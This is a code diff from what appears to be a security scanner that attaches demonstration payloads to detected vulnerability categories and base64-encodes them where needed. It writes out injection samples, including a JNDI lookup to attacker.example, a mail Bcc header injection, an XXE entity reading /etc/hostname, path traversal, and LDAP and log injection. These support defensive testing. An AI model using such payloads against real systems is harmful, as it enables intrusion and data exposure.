@@ -7,13 +7,26 @@ import { path, redirect, serverRequest } from './address-payloads.ts';
 import { code, command, nosql, sql, template, workflow, xpath } from './injection-payloads.ts';
 import { markup } from './markup-payloads.ts';
 import { type Fitting, type Payload, supports, weakens } from './payload.ts';
-import { isMail } from './payload-dialects.ts';
+import { dangerousFileName, isMail } from './payload-dialects.ts';
+import { serialized } from './serialized-payloads.ts';
 import { stringContext } from './string-context.ts';
 
 const header: Fitting = (_context, { sinkApi }) =>
   isMail.test(sinkApi)
     ? supports('x\r\nBcc: someone@attacker.example', 'inside a header of the mail')
     : supports('x\r\nSet-Cookie: injected=1', 'inside a header');
+
+const seenInHead =
+  (fitting: Fitting): Fitting =>
+  (context, candidate) => {
+    const payload = fitting(context, candidate);
+    return payload && { ...payload, isSeenInHead: true };
+  };
+
+const upload: Fitting = (_context, { file }) => ({
+  ...supports(dangerousFileName(file), 'as the name of the file that is kept'),
+  isExample: true,
+});
 
 /** The checker of regular expressions has made the text already. */
 const regex: Fitting = (context, { details }) => {
@@ -30,6 +43,15 @@ const fixed =
 
 /** By category slug. A category that is not here has no payload (weak algorithms, configuration, secrets). */
 const fittings: Readonly<Record<string, Fitting>> = {
+  'unsafe-deserialization': serialized,
+  'unrestricted-upload': upload,
+  'jndi-injection': fixed('ldap://attacker.example/a', 'as the name that is looked up', { isExample: true }),
+  'regex-injection': fixed('.*', 'as a pattern, which then matches anything', { isExample: true }),
+  cors: seenInHead(
+    fixed('https://attacker.example', 'as the origin that asks, and the answer allows it', {
+      isExample: true,
+    }),
+  ),
   'sql-injection': sql,
   'command-injection': command,
   'code-injection': code,
@@ -38,7 +60,7 @@ const fittings: Readonly<Record<string, Fitting>> = {
   'file-inclusion': path,
   'archive-slip': fixed('../../../../tmp/outside.txt', 'as the name of an archive entry'),
   ssrf: serverRequest,
-  'open-redirect': redirect,
+  'open-redirect': seenInHead(redirect),
   xss: markup,
   'reflected-xss': markup,
   'stored-xss': markup,
@@ -48,7 +70,7 @@ const fittings: Readonly<Record<string, Fitting>> = {
   'nosql-injection': nosql,
   'ldap-injection': fixed('*)(objectClass=*', 'inside the filter'),
   'log-injection': fixed('ok\nERROR forged entry', 'inside a log line'),
-  'header-injection': header,
+  'header-injection': seenInHead(header),
   xxe: fixed('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>', 'as the document', {
     bodyType: 'application/xml',
   }),
@@ -66,5 +88,22 @@ export function fitPayload(candidate: Candidate, category: string): (Payload & {
   const fitting = fittings[category];
   if (!fitting) return null;
   const context = stringContext(candidate.shape);
-  return { ...fitting(context, candidate), isJudged: context !== null };
+  const payload = fitting(context, candidate);
+  return payload && { ...encoded(payload, candidate), isJudged: context !== null && !payload.isExample };
+}
+
+const base64Decoder =
+  /\bb64decode|base64_?decode|decode_?base64|from_?base64|\batob\(|Base64\.(?:decode|strict_decode|urlsafe_decode)|getDecoder\(|['"]base64(?:url)?['"]\s*\)|\bunpack1?\(?\s*['"]m/i;
+
+/** What is decoded on its way is sent encoded; bytes that are not are made where they are sent. */
+function encoded(payload: Payload, { trace }: Candidate): Payload {
+  const isDecoded = trace.some(({ code }) => base64Decoder.test(code));
+  const { value, where, isBinary, ...rest } = payload;
+  if (isDecoded && payload.expression === undefined)
+    return {
+      ...rest,
+      value: isBinary ? value : Buffer.from(value).toString('base64'),
+      where: `${where}, once it is decoded`,
+    };
+  return isBinary ? { ...payload, expression: `Buffer.from('${value}', 'base64')` } : payload;
 }
